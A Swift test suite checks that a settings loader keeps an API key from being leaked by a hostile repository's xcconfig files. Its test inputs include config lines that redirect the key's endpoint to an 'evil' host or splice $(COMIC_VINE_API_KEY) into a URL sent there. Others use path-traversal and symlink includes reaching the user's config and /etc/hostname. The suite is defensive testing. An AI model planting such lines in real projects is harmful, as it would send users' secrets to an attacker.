import AggregatorKit
import Foundation
import Testing

/// Attempts of a hostile repository to obtain a key when it is the working directory.
@Suite struct SettingsLeakTests {
  static let canary = "c4n4ry0123456789abcdef"

  let sandbox: Sandbox

  init() throws {
    sandbox = try Sandbox()
    try sandbox.writeUserFile("COMIC_VINE_API_KEY = \(Self.canary)")
  }

  private func hostile(_ text: String, _ file: String = "Debug.xcconfig") throws {
    try sandbox.write(text, to: "work/Configuration/\(file)")
  }

  /// Loads, and looks for the key everywhere but where it belongs.
  @discardableResult
  private func load(
    _ environment: [String: String] = [:], configFile: String? = nil
  ) throws -> SettingsLoader.Loaded {
    let loaded = try sandbox.load(environment, configFile: configFile)
    var words = "\(loaded)\(loaded.settings)\(loaded.warnings)"
    dump(loaded, to: &words)
    for setting in Keys.all {
      words += "\(loaded.settings.text(setting) ?? "") \(loaded.settings.shown(setting))"
      words += "\(loaded.settings.origin(of: setting))"
    }
    #expect(!words.contains(Self.canary))
    return loaded
  }

  private func message(
    _ environment: [String: String] = [:], configFile: String? = nil
  ) -> String? {
    let error = #expect(throws: SourceError.self) {
      try sandbox.load(environment, configFile: configFile)
    }
    #expect(error.map { "\($0)" }?.contains(Self.canary) == false)
    return error?.message
  }

  @Test func `it cannot choose where the key is sent`() throws {
    try hostile("COMIC_VINE_URL = https:/$()/evil")
    let loaded = try load()
    #expect(loaded.settings.text(Keys.heroesURL) == "https://vine/api")
    #expect(loaded.settings.apiKey == Self.canary)
    #expect(
      loaded.warnings == [
        Warning(
          .ignored,
          "Configuration/Debug.xcconfig:1: COMIC_VINE_URL is ignored: the working directory must not "
            + "choose where COMIC_VINE_API_KEY is sent (set it in the environment, or in "
            + "\(sandbox.userFile))")
      ])
  }

  @Test func `it cannot do so through an include either`() throws {
    try hostile("#include \"sub/more.xcconfig\"")
    try hostile("COMIC_VINE_URL = https:/$()/evil", "sub/more.xcconfig")
    let loaded = try load()
    #expect(loaded.settings.text(Keys.heroesURL) == "https://vine/api")
    #expect(loaded.warnings.map(\.code.description) == ["ignored"])
    #expect(loaded.warnings.first?.message.hasPrefix("Configuration/sub/more.xcconfig:1: ") == true)
  }

  @Test func `it cannot do so with a key of its own either`() throws {
    try hostile("COMIC_VINE_API_KEY = theirs\nCOMIC_VINE_URL = https:/$()/evil")
    let loaded = try load()
    #expect(loaded.settings.text(Keys.heroesURL) == "https://vine/api")
    #expect(loaded.settings.apiKey == "theirs")
  }

  @Test func `a key in the environment is protected like one in a file`() throws {
    try FileManager.default.removeItem(atPath: sandbox.userFile)
    try hostile("COMIC_VINE_URL = https:/$()/evil\nCOUNTRIES_URL = e/$(COMIC_VINE_API_KEY)")
    let loaded = try load(["COMIC_VINE_API_KEY": Self.canary])
    #expect(loaded.settings.text(Keys.heroesURL) == "https://vine/api")
    #expect(loaded.settings.text(Keys.countriesURL) == "https://host/c")
  }

  @Test func `options on the command line may choose the address`() throws {
    try hostile("COMIC_VINE_URL = https:/$()/evil")
    #expect(
      try load(["COMIC_VINE_URL": "https://own"]).settings.text(Keys.heroesURL) == "https://own")
    try sandbox.writeUserFile("COMIC_VINE_URL = https:/$()/user")
    #expect(try load().settings.text(Keys.heroesURL) == "https://user")
    try sandbox.write("COMIC_VINE_URL = https:/$()/named", to: "named.xcconfig")
    #expect(
      try load(configFile: "../named.xcconfig").settings.text(Keys.heroesURL) == "https://named")
  }

  @Test(arguments: [
    "COUNTRIES_URL = https:/$()/evil/$(COMIC_VINE_API_KEY)",
    "COUNTRIES_URL = https:/$()/evil/${COMIC_VINE_API_KEY}",
    "COUNTRIES_URL = $(A)\nA = $(B)\nB = $(COMIC_VINE_API_KEY)",
    "COUNTRIES_URL = $(COMIC_VINE_API_KEY)\nCOMIC_VINE_API_KEY = $(inherited)",
    "COMIC_VINE_RATE = $(COMIC_VINE_API_KEY)",
    "COMIC_VINE_API_KEY = $(inherited)",
    "COMIC_VINE_API_KEY = x$(inherited)",
    "COMIC_VINE_API_KEY = $(A)\nA = $(COMIC_VINE_API_KEY)\nCOUNTRIES_URL = $(A)",
    "COUNTRIES_URL = https:/$()/evil/$(comic_vine_api_key)",
    "COUNTRIES_URL = https:/$()/evil/$(Comic_Vine_Api_Key)",
  ])
  func `it does not expand the key of another layer`(text: String) throws {
    try hostile(text)
    let loaded = try load()
    #expect(loaded.settings.apiKey == Self.canary)
    #expect(loaded.settings.text(Keys.countriesURL) == "https://host/c")
    #expect(loaded.settings.text(Keys.rate) == "1/s 200/h")
    #expect(loaded.warnings.contains { $0.code == .settings })
  }

  @Test(arguments: [
    "COUNTRIES_URL = https:/$()/evil/$(COMIC_VINE_API_KEY)",
    "COUNTRIES_URL = https:/$()/evil/$(PART)\nCOMIC_VINE_API_KEY = $(inherited)$(PART)",
    "COMIC_VINE_API_KEY = $(COUNTRIES_URL)\nCOMIC_VINE_API_KEY = \(canary)\nCOUNTRIES_URL = $(COMIC_VINE_API_KEY)",
    "COUNTRIES_URL = $(A)\nA = $(COMIC_VINE_API_KEY)\nCOMIC_VINE_API_KEY = \(canary)$(A2)",
    "COUNTRIES_URL = $(inherited)$(COMIC_VINE_API_KEY)",
  ])
  func `an included file does not move the key of the file that includes it`(text: String) throws {
    try FileManager.default.removeItem(atPath: sandbox.userFile)
    try hostile("PART = \(Self.canary)\nCOMIC_VINE_API_KEY = $(PART)\n#include \"Shared.xcconfig\"")
    try hostile(text, "Shared.xcconfig")
    let loaded = try load()
    #expect(loaded.settings.text(Keys.countriesURL) == "https://host/c")
    #expect(loaded.warnings.contains { $0.code == .settings })
  }

  @Test func `unknown keys stay in their layer`() throws {
    try sandbox.writeUserFile("PART = \(Self.canary)\nCOMIC_VINE_API_KEY = $(PART)")
    try hostile("COUNTRIES_URL = https:/$()/evil/$(PART)")
    #expect(try load().settings.text(Keys.countriesURL) == "https://evil/")
  }

  @Test func `the user's own file cannot show the key in another setting either`() throws {
    try sandbox.writeUserFile(
      "COMIC_VINE_API_KEY = \(Self.canary)\nCOUNTRIES_URL = https:/$()/h/$(COMIC_VINE_API_KEY)")
    #expect(
      message()
        == "\(sandbox.userFile):2: COUNTRIES_URL must not refer to the secret "
        + "$(COMIC_VINE_API_KEY)")
  }

  @Test func `a named file cannot use the key of the user's file`() throws {
    try sandbox.write("COMIC_VINE_API_KEY = $(inherited)", to: "named.xcconfig")
    #expect(
      message(configFile: "../named.xcconfig")
        == "../named.xcconfig:1: $(COMIC_VINE_API_KEY) is not set in this file; secrets are "
        + "not inherited from other files")
  }

  @Test func `variables of the environment are not expanded`() throws {
    try hostile("COUNTRIES_URL = <$(TOKEN)$(HOME)$(COMIC_VINE_RATE)>")
    let loaded = try load(["TOKEN": "t", "COMIC_VINE_RATE": "5/s"])
    #expect(loaded.settings.text(Keys.countriesURL) == "<1/s 200/h>")
  }

  @Test(arguments: [
    "../../home/.config/aggregator/config.xcconfig", "../outside.xcconfig", "/etc/hostname",
    "link.xcconfig", "linked/config.xcconfig", "sub/../../outside.xcconfig",
  ])
  func `its includes must be in its Configuration directory`(path: String) throws {
    try sandbox.write("COUNTRIES_URL = outside", to: "work/outside.xcconfig")
    try sandbox.makeDirectory("work/Configuration/sub")
    try sandbox.link("work/Configuration/link.xcconfig", to: sandbox.userFile)
    try sandbox.link("work/Configuration/linked", to: "../../home/.config/aggregator")
    try hostile("#include? \"\(path)\"")
    let loaded = try load()
    #expect(loaded.settings.text(Keys.countriesURL) == "https://host/c")
    #expect(loaded.settings.origin(of: Keys.apiKey) == .file(path: sandbox.userFile, line: 1))
    #expect(loaded.warnings.map(\.code.description) == ["settings"])
    #expect(loaded.warnings.first?.message.contains("lies outside") == true)
  }

  @Test func `includes inside that directory may be links`() throws {
    try hostile("COUNTRIES_URL = inside", "sub/real.xcconfig")
    try sandbox.link("work/Configuration/link.xcconfig", to: "sub/real.xcconfig")
    try hostile("#include \"sub/../link.xcconfig\"")
    #expect(try load().settings.text(Keys.countriesURL) == "inside")
  }

  @Test func `a sibling directory with the same prefix is outside`() throws {
    try sandbox.write("COUNTRIES_URL = outside", to: "work/Configuration2/x.xcconfig")
    try hostile("#include \"../Configuration2/x.xcconfig\"")
    #expect(try load().settings.text(Keys.countriesURL) == "https://host/c")
  }

  @Test func `the file itself must not be a link to the outside`() throws {
    try sandbox.link("work/Configuration/Debug.xcconfig", to: sandbox.userFile)
    let loaded = try load()
    #expect(loaded.settings.origin(of: Keys.apiKey) == .file(path: sandbox.userFile, line: 1))
    #expect(loaded.warnings.map(\.code.description) == ["settings"])
  }

  @Test func `its directory must not be one either`() throws {
    try sandbox.write("COUNTRIES_URL = outside", to: "elsewhere/Debug.xcconfig")
    try FileManager.default.removeItem(atPath: "\(sandbox.work)/Configuration")
    try sandbox.link("work/Configuration", to: "../elsewhere")
    #expect(try load().settings.text(Keys.countriesURL) == "https://host/c")
  }

  @Test func `the working directory itself may be reached through a link`() throws {
    try hostile("COUNTRIES_URL = inside")
    try sandbox.link("link", to: "work")
    let loader = SettingsLoader(
      Keys.groups, environment: [:], workingDirectory: "\(sandbox.root)/link", build: .debug)
    #expect(try loader.load().settings.text(Keys.countriesURL) == "inside")
  }

  @Test
  func `a relative AGGREGATOR_CONFIG is restricted, since it depends on the directory`()
    throws
  {
    try sandbox.write(
      "COMIC_VINE_URL = https:/$()/evil\nCOMIC_VINE_RATE = 3/s", to: "work/my.xcconfig")
    let relative = try load(["AGGREGATOR_CONFIG": "my.xcconfig"])
    #expect(relative.settings.text(Keys.heroesURL) == "https://vine/api")
    #expect(relative.settings.text(Keys.rate) == "3/s")
    #expect(relative.warnings.map(\.code.description) == ["ignored"])
    let absolute = try load(["AGGREGATOR_CONFIG": "\(sandbox.work)/my.xcconfig"])
    #expect(absolute.settings.text(Keys.heroesURL) == "https://evil")
    #expect(try load(configFile: "my.xcconfig").settings.text(Keys.heroesURL) == "https://evil")
  }

  @Test func `a relative AGGREGATOR_CONFIG includes nothing outside`() throws {
    try sandbox.write("#include \"\(sandbox.userFile)\"", to: "work/my.xcconfig")
    #expect(message(["AGGREGATOR_CONFIG": "my.xcconfig"])?.contains("lies outside") == true)
  }

  @Test func `a relative XDG_CONFIG_HOME is ignored`() throws {
    try sandbox.write("COMIC_VINE_URL = https:/$()/evil", to: "work/aggregator/config.xcconfig")
    let loaded = try load(["XDG_CONFIG_HOME": "."])
    #expect(loaded.settings.text(Keys.heroesURL) == "https://vine/api")
    #expect(loaded.settings.apiKey == Self.canary)
  }

  @Test func `it can name neither a settings file nor an output directory`() throws {
    try sandbox.write("COMIC_VINE_URL = https:/$()/evil", to: "work/evil.xcconfig")
    try hostile(
      "AGGREGATOR_CONFIG = \(sandbox.work)/evil.xcconfig\nAGGREGATOR_HOME = \(sandbox.work)")
    let loaded = try load()
    #expect(loaded.settings.text(Keys.heroesURL) == "https://vine/api")
    #expect(try loaded.settings.directory(Keys.home) == nil)
    #expect(loaded.warnings.map(\.code.description) == ["ignored"])
    #expect(try load(["AGGREGATOR_HOME": "/h"]).settings.directory(Keys.home) == "/h")
  }

  @Test func `keys in another case are other keys`() throws {
    try hostile("comic_vine_url = https:/$()/evil\nComic_Vine_Url = https:/$()/evil")
    #expect(try load().settings.text(Keys.heroesURL) == "https://vine/api")
    #expect(
      try load(["comic_vine_url": "https://evil"]).settings.text(Keys.heroesURL)
        == "https://vine/api")
  }

  @Test func `a key in another case is not moved either`() throws {
    try hostile("comic_vine_api_key = \(Self.canary)\n#include \"Shared.xcconfig\"")
    try hostile("COUNTRIES_URL = https:/$()/evil/$(comic_vine_api_key)", "Shared.xcconfig")
    #expect(try load().settings.text(Keys.countriesURL) == "https://host/c")
  }

  @Test func `a condition does not bypass the restrictions`() throws {
    try hostile("COMIC_VINE_URL[sdk=*] = https:/$()/evil")
    #expect(try load().settings.text(Keys.heroesURL) == "https://vine/api")
  }

  @Test func `it may set harmless settings`() throws {
    try hostile("COUNTRIES_URL = https:/$()/own\nCOMIC_VINE_RATE = 2/s\nCOMIC_VINE_PAGE_SIZE = 9")
    let loaded = try load()
    #expect(try loaded.settings.url(Keys.countriesURL).absoluteString == "https://own")
    #expect(try loaded.settings.rate(Keys.rate) == Rate("2/s"))
    #expect(try loaded.settings.count(Keys.pageSize) == 9)
    #expect(loaded.warnings.isEmpty)
  }

  @Test(arguments: [
    canary, "COMIC_VINE_API_KEY \(canary)", "COMIC_VINE_API_KEY = \(canary)\0", "= \(canary)",
    "COMIC_VINE_API_KEY[sdk=* = \(canary)", "#\(canary)", "COMIC_VINE_API_KEY = \"\(canary)\"",
    "COMIC_VINE_API_KEY = \(canary)$(A:b)", "COMIC_VINE_API_KEY = \(canary)$(COMIC_VINE_API_KEY)",
    "COMIC_VINE_API_KEY = \(canary)http://x",
  ])
  func `an unreadable line is not quoted`(text: String) throws {
    try hostile(text)
    try load()
    try sandbox.writeUserFile(text)
    #expect(message() != nil)
  }
}
